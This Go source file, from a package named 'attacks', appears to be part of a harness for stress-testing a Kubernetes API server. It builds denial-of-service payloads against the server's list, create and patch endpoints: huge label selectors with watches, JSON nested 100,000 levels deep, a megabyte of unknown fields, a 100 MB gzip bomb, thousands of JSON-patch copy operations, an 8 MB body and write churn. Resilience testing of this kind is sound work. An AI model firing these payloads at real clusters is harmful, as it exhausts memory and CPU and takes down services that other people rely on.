package attacks

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
)

// Content that is small to send and large to read, or the other way round.

// hugeSelector lists, and watches, by a selector of 60 kB that differs each time.
func hugeSelector(ctx context.Context, a *attacker) error {
	var values strings.Builder
	n := a.serial.Add(1)
	for i := range 5000 {
		fmt.Fprintf(&values, "%d-%d,", n, i)
	}
	selector := url.QueryEscape("app in (" + values.String() + "x)")
	path := a.Lists + "?labelSelector=" + selector
	if n%2 == 0 {
		path += "&watch=true&timeoutSeconds=2"
	}
	return a.send(ctx, http.MethodGet, path, "")
}

// nested is a body of depth levels.
func nested(depth int) string {
	return `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"bomb"},"data":` + strings.Repeat(`{"a":`, depth) + "1" + strings.Repeat("}", depth) + "}"
}

// wide is a body of a megabyte of members, all different.
var wide = sync.OnceValue(func() string {
	var b strings.Builder
	b.WriteString(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"bomb"},"unknown":{`)
	for n := range 80_000 {
		fmt.Fprintf(&b, `"m%d":[],`, n)
	}
	b.WriteString(`"":0}}`)
	return b.String()
})

// zipped is 100 MB of zeros.
var zipped = sync.OnceValue(func() string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	zeros := make([]byte, 1<<20)
	for range 100 {
		_, _ = w.Write(zeros) // a bytes.Buffer takes everything
	}
	_ = w.Close()
	return b.String()
})

// bombs sends bodies that cost more than their size.
func bombs(ctx context.Context, a *attacker) error {
	switch a.serial.Add(1) % 5 {
	case 0:
		return a.send(ctx, http.MethodPost, a.Lists, nested(100_000))
	case 1:
		return a.send(ctx, http.MethodPost, a.Lists, nested(9_000))
	case 2:
		return a.send(ctx, http.MethodPost, a.Lists+"?fieldValidation=Strict", wide())
	case 3:
		return a.send(ctx, http.MethodPost, a.Lists, zipped(), "Content-Encoding", "gzip")
	default:
		operations := strings.Repeat(`{"op":"copy","from":"/data","path":"/data/x"},`, 9_000)
		return a.send(ctx, http.MethodPatch, a.Lists+"/crowd-0", "["+strings.TrimSuffix(operations, ",")+"]", "Content-Type", "application/json-patch+json")
	}
}

// oversized sends a body that is beyond every limit.
func oversized(ctx context.Context, a *attacker) error {
	return a.send(ctx, http.MethodPost, a.Lists, large())
}

var large = sync.OnceValue(func() string {
	return `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"bomb"},"data":{"x":"` + strings.Repeat("x", 8<<20) + `"}}`
})

// churn writes to objects that the attacker's slow watches are to be sent.
func churn(ctx context.Context, a *attacker) error {
	n := a.serial.Add(1)
	return a.send(ctx, http.MethodPatch, fmt.Sprintf("%s/crowd-%d", a.Lists, n%100), fmt.Sprintf(`{"data":{"n":"%d"}}`, n), "Content-Type", "application/merge-patch+json")
}
